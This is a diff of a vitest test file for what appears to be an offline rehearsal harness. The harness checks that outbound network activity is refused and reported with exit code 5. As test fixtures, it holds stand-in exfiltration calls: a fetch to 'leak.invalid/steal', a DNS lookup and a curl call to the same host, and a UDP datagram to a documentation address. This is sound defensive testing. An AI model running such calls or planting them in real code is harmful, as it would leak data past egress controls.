@@ -1,14 +1,17 @@
+import { execFile } from 'node:child_process'
+import { createSocket } from 'node:dgram'
+import { lookup } from 'node:dns'
 import { existsSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect, it } from 'vitest'
-import { duringTheRun } from '../support/preload.ts'
+import { duringTheRun } from '../support/during-the-run.ts'
 import { promptFile, rehearse } from '../support/rehearse.ts'
 
 const files = { 'prompt_files/heron.txt': promptFile('heron', 49) }
 
-/** Rehearses while `code` runs in the same process, and gives what a reader learns from it. */
-async function rehearseWith(code: string) {
-  const run = await rehearse([], { files, env: duringTheRun(code) })
+/** Rehearses while `work` is done in the same process, and gives what a reader learns from it. */
+async function rehearseWith(work: () => unknown) {
+  const run = await rehearse([], { files, ...duringTheRun(work) })
   const { ok, exit_code, failures, rehearsal } = run.summary
   const { refused, unmatched, real_connections } = rehearsal
   const film = existsSync(join(run.folder, 'output/final/heron.mp4'))
@@ -16,7 +19,7 @@ async function rehearseWith(code: string) {
 }
 
 it('ends with 5 and the host when something connects to the outside and hides its failure', async () => {
-  const { run, told } = await rehearseWith("fetch('http://leak.invalid/steal').catch(() => {})")
+  const { run, told } = await rehearseWith(() => fetch('http://leak.invalid/steal').catch(() => {}))
   expect(told).toEqual({
     exitCode: 5,
     film: true,
@@ -39,25 +42,17 @@ it('ends with 5 and the host when something connects to the outside and hides it
 })
 
 it.each([
-  ['a look-up', "import('node:dns').then((dns) => dns.lookup('leak.invalid', () => {}))", 'dns leak.invalid'],
-  [
-    'a program',
-    "import('node:child_process').then(({ execFile }) => execFile('curl', ['leak.invalid'], () => {})).catch(() => {})",
-    'program curl leak.invalid',
-  ],
-  [
-    'a datagram',
-    "import('node:dgram').then(({ createSocket }) => createSocket('udp4').send('x', 9, '192.0.2.1')).catch(() => {})",
-    'udp',
-  ],
-])('ends with 5 after %s', async (_, code, refused) => {
-  const { told } = await rehearseWith(code)
+  ['a look-up', () => lookup('leak.invalid', () => {}), 'dns leak.invalid'],
+  ['a program', () => execFile('curl', ['leak.invalid'], () => {}), 'program curl leak.invalid'],
+  ['a datagram', sendDatagram, 'udp'],
+])('ends with 5 after %s', async (_, work, refused) => {
+  const { told } = await rehearseWith(work)
   expect(told).toMatchObject({ exitCode: 5, film: true, exit_code: 5, real_connections: 0 })
   expect(told.refused).toEqual([expect.stringContaining(refused)])
 })
 
 it('ends with 3 and the nearest route when a request has no answer and its sender hides that', async () => {
-  const { run, told } = await rehearseWith("fetch('http://127.0.0.1:8188/histories/last').catch(() => {})")
+  const { run, told } = await rehearseWith(() => fetch('http://127.0.0.1:8188/histories/last').catch(() => {}))
   expect(told).toEqual({
     exitCode: 3,
     film: true,
@@ -79,9 +74,18 @@ it('ends with 3 and the nearest route when a request has no answer and its sende
 })
 
 it('ends with the highest code when several things go wrong', async () => {
-  const code =
-    "for (const at of ['http://127.0.0.1:8188/unheard-of', 'http://leak.invalid/']) fetch(at).catch(() => {})"
-  const { told } = await rehearseWith(code)
+  const { told } = await rehearseWith(() => {
+    for (const at of ['http://127.0.0.1:8188/unheard-of', 'http://leak.invalid/']) fetch(at).catch(() => {})
+  })
   expect(told).toMatchObject({ exitCode: 5, exit_code: 5 })
   expect(told.failures.map(({ code }: { code: string }) => code)).toEqual(['PR_EGRESS', 'PR_UNMATCHED_REQUEST'])
 })
+
+function sendDatagram(): void {
+  const socket = createSocket('udp4')
+  try {
+    socket.send('x', 9, '192.0.2.1')
+  } finally {
+    socket.close()
+  }
+}
